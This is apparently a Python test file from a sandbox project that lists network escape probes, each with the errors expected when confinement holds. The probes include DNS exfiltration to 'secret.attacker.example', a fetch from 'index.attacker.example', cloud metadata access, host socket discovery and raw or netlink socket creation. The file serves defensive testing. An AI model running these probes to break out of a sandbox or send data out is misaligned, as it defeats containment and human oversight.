"""Attacks through the network: the internet, the host's own servers, sockets of other kinds."""

from tinsmith.workspace.attacks.attack import Inside

NETWORK = (
    Inside(
        "N01", "connect to the internet", "socket.create_connection(('1.1.1.1', 443), 3)", "ENETUNREACH", armed=False
    ),
    Inside(
        "N02",
        "carry a secret out in a name to resolve",
        "socket.getaddrinfo('secret.attacker.example', 443)",
        "EAI_AGAIN EAI_NONAME EAI_FAIL",
        armed=False,
    ),
    Inside(
        "N03",
        "reach a server on the host's loopback",
        "socket.create_connection(('127.0.0.1', PORT), 3)",
        "ECONNREFUSED EACCES",
    ),
    Inside(
        "N04",
        "reach an abstract socket of the host",
        "socket.socket(1).connect('\\0' + ABSTRACT)",
        "ECONNREFUSED EPERM",
    ),
    Inside(
        "N05", "reach a UNIX socket of the host by its path", "socket.socket(1).connect(UNIX)", "ENOENT EACCES EPERM"
    ),
    Inside("N06", "make a VSOCK socket", "socket.socket(40, 1)", "EAFNOSUPPORT EPERM EACCES", armed=False),
    Inside(
        "N07",
        "make packet and raw sockets",
        "each(lambda s: socket.socket(*s), (17, 3), (17, 2), (2, 3, 1), (10, 3, 58), (2, 3, 255))",
        "EAFNOSUPPORT EPERM EACCES",
        armed=False,
    ),
    Inside(
        "N08",
        "reach the cloud's metadata service",
        "socket.create_connection(('169.254.169.254', 80), 3)",
        "ENETUNREACH EACCES",
        armed=False,
    ),
    Inside(
        "N09",
        "send a datagram",
        "socket.socket(2, 2).sendto(b'x', ('8.8.8.8', 53))",
        "ENETUNREACH EPERM EACCES",
        armed=False,
    ),
    Inside(
        "N11",
        "find a socket of docker, dbus, an agent or a display",
        """
found = []
for top in ('/run', '/var/run', '/tmp', '/dev', os.path.dirname(UNIX)):
    for place, below, names in os.walk(top):
        if place.count('/') > 4: below.clear()
        found += [n for n in names if stat.S_ISSOCK(os.lstat(os.path.join(place, n)).st_mode)]
if not found: refuse('absent')
""",
        "absent",
    ),
    Inside(
        "N12",
        "connect over IPv6",
        "socket.create_connection(('2001:4860:4860::8888', 443), 3)",
        "ENETUNREACH EADDRNOTAVAIL EAFNOSUPPORT EACCES",
        armed=False,
    ),
    Inside(
        "N13",
        "find a network card",
        "if {n for _, n in socket.if_nameindex()} <= {'lo'}: refuse('absent')",
        "absent",
        armed=False,
    ),
    Inside(
        "N14",
        "make a network card",
        """
s = socket.socket(16, 3, 0)
info = struct.pack('HHI', 12, 1, 5) + b'dummy\\0\\0\\0'
link = struct.pack('HH', 4 + len(info), 18) + info
s.send(struct.pack('IHHII', 32 + len(link), 16, 0x605, 1, 0) + struct.pack('BBHiII', 0, 0, 0, 0, 0, 0) + link)
code = struct.unpack_from('i', s.recv(4096), 16)[0]
if code: raise OSError(-code, '')
""",
        "EPERM",
        armed=False,
    ),
    Inside(
        "N15",
        "make sockets of families with a history of holes",
        "each(lambda f: socket.socket(f, socket.SOCK_SEQPACKET if f == 38 else socket.SOCK_DGRAM),"
        " 38, 31, 29, 30, 44, 15, 33, 39, 42, 43, 28)",
        "EAFNOSUPPORT EPERM EACCES",
        armed=False,
    ),
    Inside(
        "N16",
        "ping",
        "socket.socket(2, 2, 1).sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0', ('1.1.1.1', 0))",
        "EACCES ENETUNREACH EPERM EAFNOSUPPORT",
        armed=False,
    ),
    Inside(
        "N17",
        "send to every machine of the local network",
        """
s = socket.socket(2, 2); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
each(lambda a: s.sendto(b'x', (a, 5353)), '255.255.255.255', '224.0.0.251')
""",
        "ENETUNREACH EPERM EACCES",
        armed=False,
    ),
    Inside(
        "N18",
        "find a proxy or an agent in the environment",
        "endings = ('_proxy', '_sock', '_host', 'bus_address')\n"
        "if not [n for n in os.environ if n.lower().endswith(endings)]: refuse('absent')",
        "absent",
        armed=False,
    ),
    Inside(
        "N19",
        "fetch a package from an index",
        "import urllib.request, urllib.error\n"
        "try: urllib.request.urlopen('https://index.attacker.example/simple/', timeout=5)\n"
        "except urllib.error.URLError as error: raise error.reason",
        "EAI_AGAIN EAI_NONAME EAI_FAIL",
        armed=False,
    ),
)
